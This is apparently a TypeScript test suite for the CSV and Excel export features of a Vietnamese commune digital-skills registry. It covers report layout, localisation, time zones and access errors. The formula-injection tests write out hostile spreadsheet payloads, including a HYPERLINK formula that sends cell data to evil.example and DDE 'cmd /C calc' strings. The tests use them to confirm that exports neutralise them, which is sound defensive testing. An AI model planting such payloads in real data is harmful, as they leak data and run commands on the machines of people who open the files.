import * as CalendarDate from "@bdhv/domain/CalendarDate"
import * as ChuongMy from "@bdhv/domain/ChuongMy"
import * as Indicator from "@bdhv/domain/Indicator"
import ExcelJS from "exceljs"
import { parse } from "csv-parse/sync"
import { beforeAll, describe, expect, it } from "vitest"
import * as Seed from "../src/demo/Seed.js"
import { lineOf, lists } from "../src/export/ListCsv.js"
import { reportWorkbook } from "../src/export/ReportWorkbook.js"
import type * as Report from "../src/indicators/Report.js"
import { forEachDatabase, readJson } from "./harness.js"

const today = CalendarDate.CalendarDate.make("2026-11-20")

forEachDatabase((db) => {
  describe("exports", () => {
    let cookie: string
    beforeAll(async () => {
      await db.run(Seed.seed({ people: 600, today }))
      cookie = await db.login()
    }, 180_000)

    it("writes the indicator report as the table a commune sends up: units as rows, indicators as columns", async () => {
      const response = await db.request(`/api/exports/report.xlsx?asOf=${today}`, { cookie })
      expect(response.status).toBe(200)
      expect(response.headers.get("content-type")).toContain("spreadsheetml")
      expect(response.headers.get("content-disposition")).toMatch(
        /attachment; filename="bao-cao-bdhv-.*\.xlsx"/,
      )
      const report = await readJson<Report.IndicatorReport>(
        await db.request(`/api/indicators?asOf=${today}`, { cookie }),
      )
      const workbook = new ExcelJS.Workbook()
      await workbook.xlsx.load(await response.arrayBuffer())
      const sheet = workbook.worksheets[0]!
      expect(String(sheet.getCell("A2").value)).toContain(ChuongMy.hanoi.name)
      expect(String(sheet.getCell("A3").value)).toContain("20/11/2026")
      // Row 5: indicator names over 5 columns each; row 6: value, numerator, denominator, target, status.
      expect(sheet.getRow(5).getCell(3).value).toBe(Indicator.definition("digital-family").name.vi)
      expect(sheet.getRow(6).getCell(4).value).toBe("Tử số")
      const units = [report, ...report.children]
      expect(sheet.rowCount).toBe(6 + units.length)
      units.forEach((unit, i) => {
        const row = sheet.getRow(7 + i)
        expect(row.getCell(2).value).toBe(unit.unit.name)
        unit.indicators.forEach((figure, k) => {
          expect(row.getCell(3 + k * 5 + 1).value).toBe(figure.numerator)
          expect(row.getCell(3 + k * 5 + 2).value).toBe(figure.denominator)
        })
      })
    })

    it("exports a list as CSV with the list's own search", async () => {
      const list = await readJson<{ total: number }>(
        await db.request("/api/people?q=nguyen&pageSize=1", { cookie }),
      )
      expect(list.total).toBeGreaterThan(0)
      const response = await db.request("/api/exports/people.csv?q=nguyen", { cookie })
      expect(response.status).toBe(200)
      expect(response.headers.get("content-type")).toContain("text/csv")
      const bytes = new Uint8Array(await response.arrayBuffer())
      // A byte order mark, so that Excel reads the file as UTF-8.
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
      const rows = parse(new TextDecoder().decode(bytes), { columns: true, bom: true }) as Array<
        Record<string, string>
      >
      expect(rows).toHaveLength(list.total)
      for (const row of rows) expect(row["Họ và tên"]).toMatch(/Nguyễn/)
    })

    it("exports every page of a long list", async () => {
      const list = await readJson<{ total: number }>(await db.request("/api/people?pageSize=1", { cookie }))
      expect(list.total).toBeGreaterThan(500)
      const text = await (await db.request("/api/exports/people.csv", { cookie })).text()
      expect(parse(text, { columns: true })).toHaveLength(list.total)
    })

    const csvRows = async (path: string, headers?: Record<string, string>) => {
      const response = await db.request(path, { cookie, ...(headers === undefined ? {} : { headers }) })
      expect(response.status).toBe(200)
      return parse(await response.text(), { columns: true, bom: true }) as Array<Record<string, string>>
    }

    it("writes headings in the reader's language, a name next to every id and no JSON in a cell", async () => {
      const [person] = await csvRows("/api/exports/people.csv?sort=name")
      expect(Object.keys(person!)).toEqual(
        expect.arrayContaining(["Mã định danh", "Họ và tên", "Giới tính", "Hộ gia đình", "Thôn, tổ dân phố"]),
      )
      const unit = await readJson<{ name: string }>(
        await db.request(`/api/units/${person!["Thôn, tổ dân phố (mã)"]}`, { cookie }),
      )
      expect(person!["Thôn, tổ dân phố"]).toBe(unit.name)
      expect(["Nam", "Nữ"]).toContain(person!["Giới tính"])
      if (person!["Hộ gia đình (mã)"] !== "") {
        const household = await readJson<{ code: string }>(
          await db.request(`/api/households/${person!["Hộ gia đình (mã)"]}`, { cookie }),
        )
        expect(person!["Hộ gia đình"]).toBe(household.code)
      }
      const english = await csvRows("/api/exports/people.csv?sort=name", { "accept-language": "en" })
      expect(Object.keys(english[0]!)).toEqual(expect.arrayContaining(["Full name", "Sex", "Household"]))
      const byLink = await csvRows("/api/exports/people.csv?sort=name&lang=en")
      expect(Object.keys(byLink[0]!)).toEqual(Object.keys(english[0]!))
      for (const name of Object.keys(lists)) {
        const rows = await csvRows(`/api/exports/${name}.csv`)
        expect(rows.length, name).toBeGreaterThan(0)
        for (const header of Object.keys(rows[0]!))
          expect(header, name).not.toMatch(/^[a-z]+[A-Z]?[a-zA-Z]*$/)
        for (const row of rows.slice(0, 50))
          for (const cell of Object.values(row))
            expect(cell, name).not.toMatch(/^[[{]|"_tag"|^\d{4}-\d{2}-\d{2}/)
      }
    })

    it("writes a class's start in Vietnam time: a 07:30 class reads 07:30", async () => {
      const units = await readJson<ReadonlyArray<{ id: string; villages: ReadonlyArray<{ id: string }> }>>(
        await db.request("/api/public/units"),
      )
      const created = await db.request("/api/classes", {
        cookie,
        body: {
          unitId: units[0]!.id,
          title: "Lớp sáng sớm xuất khẩu",
          audience: "elderly",
          topicIds: ["digital-payment", "vneid"],
          startsAt: "2026-11-25T00:30:00.000Z",
          durationMinutes: 90,
          mode: "in_person",
          venue: "Nhà văn hoá",
          capacity: 20,
          instructorIds: [],
          organizationId: null,
          status: "scheduled",
        },
      })
      expect(created.status).toBe(201)
      const [row] = await csvRows(`/api/exports/classes.csv?q=${encodeURIComponent("sáng sớm xuất khẩu")}`)
      expect(row!["Tiêu đề"]).toBe("Lớp sáng sớm xuất khẩu")
      expect(Object.values(row!)).toContain("25/11/2026 07:30")
      expect(Object.values(row!)).toContain("Trực tiếp")
      expect(Object.values(row!).join(" ")).toContain("Thanh toán")
    })

    it("keeps every cell that anyone typed inert: no formula runs when the file is opened", async () => {
      const formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
      const units = await readJson<ReadonlyArray<{ id: string; villages: ReadonlyArray<{ id: string }> }>>(
        await db.request("/api/public/units"),
      )
      const classes = await readJson<{
        items: ReadonlyArray<{ id: string; seatsLeft: number; audience: string; communeId: string }>
      }>(await db.request("/api/public/classes"))
      const open = classes.items.find((c) => c.seatsLeft > 0 && c.audience === "community")!
      const village = units.find((u) => u.id === open.communeId)!.villages[0]!.id
      const signUp = await db.request(`/api/public/classes/${open.id}/registrations`, {
        body: {
          fullName: formula,
          phone: "0912 000 111",
          birthYear: "1970",
          unitId: village,
          needs: [],
          topicIds: [],
          classId: open.id,
          consent: true,
          website: "",
          elapsedMs: 12_000,
        },
      })
      expect(signUp.status).toBe(201)
      // A sign-up waits for review; the same name typed into the registry by an officer is a person.
      const typed = await db.request("/api/people", {
        cookie,
        body: {
          fullName: formula,
          birth: { year: 1970 },
          sex: "female",
          householdId: null,
          unitId: village,
          groups: [],
          vneidLevel: 0,
          hasDigitalBankAccount: false,
        },
      })
      expect(typed.status).toBe(201)
      const household = await db.request("/api/households", {
        cookie,
        body: { code: "FX-1", unitId: village, address: "+cmd|' /C calc'!A0", isRemote: false },
      })
      expect(household.status).toBe(201)
      const organization = await db.request("/api/organizations", {
        cookie,
        body: { name: "@SUM(1+1)*cmd|' /C calc'!A0", kind: "enterprise", unitId: open.communeId },
      })
      expect(organization.status).toBe(201)

      // A search matches the starts of a name's words, and this name has none past its "=": read the list.
      const people = await (
        await db.request(`/api/exports/people.csv?unitId=${village}&pageSize=100`, { cookie })
      ).text()
      const person = (parse(people, { columns: true, bom: true }) as Array<Record<string, string>>).find(
        (row) => /hyperlink/i.test(row["Họ và tên"] ?? ""),
      )
      expect(person!["Họ và tên"]!.startsWith("'=")).toBe(true)
      const [home] = await csvRows("/api/exports/households.csv?q=FX-1")
      expect(home!["Địa chỉ"]).toBe("'+cmd|' /C calc'!A0")
      const orgs = await csvRows("/api/exports/organizations.csv?q=sum")
      expect(orgs.map((o) => o["Tên tổ chức"])).toContain("'@SUM(1+1)*cmd|' /C calc'!A0")
      // Nor where another list names them: the class's enrollment is in no list, but the household is.
      for (const line of people.split("\r\n")) expect(line).not.toMatch(/(^|,)"?[=+@]/)
    })

    it("keeps a plain negative number a number, and texts that would start a formula inert", () => {
      expect(lineOf([-5, "-64,2", "-2+3", "=1+1", "@x", "\tx", "Nguyễn"])).toBe(
        "-5,-64,2,'-2+3,'=1+1,'@x,'\tx,Nguyễn\r\n".replace("-64,2", '"-64,2"'),
      )
    })

    it("keeps the report workbook inert too", async () => {
      const report = await readJson<Report.IndicatorReport>(
        await db.request(`/api/indicators?asOf=${today}`, { cookie }),
      )
      const hostile = {
        ...report,
        children: report.children.map((child, i) =>
          i === 0
            ? { ...child, unit: { ...child.unit, name: '=HYPERLINK("http://evil.example","x")' } }
            : child,
        ),
      }
      const workbook = new ExcelJS.Workbook()
      await workbook.xlsx.load((await reportWorkbook(hostile, "vi", today)) as unknown as ArrayBuffer)
      const sheet = workbook.worksheets[0]!
      expect(sheet.getRow(8).getCell(2).value).toBe('\'=HYPERLINK("http://evil.example","x")')
      expect(typeof sheet.getRow(8).getCell(4).value).toBe("number")
    })

    it("answers 404 for no such list and 400 for a bad filter", async () => {
      expect((await db.request("/api/exports/secrets.csv", { cookie })).status).toBe(404)
      expect((await db.request("/api/exports/people.csv?vneidLevel=7", { cookie })).status).toBe(400)
      expect((await db.request("/api/exports/people.csv")).status).toBe(401)
    })
  })
})
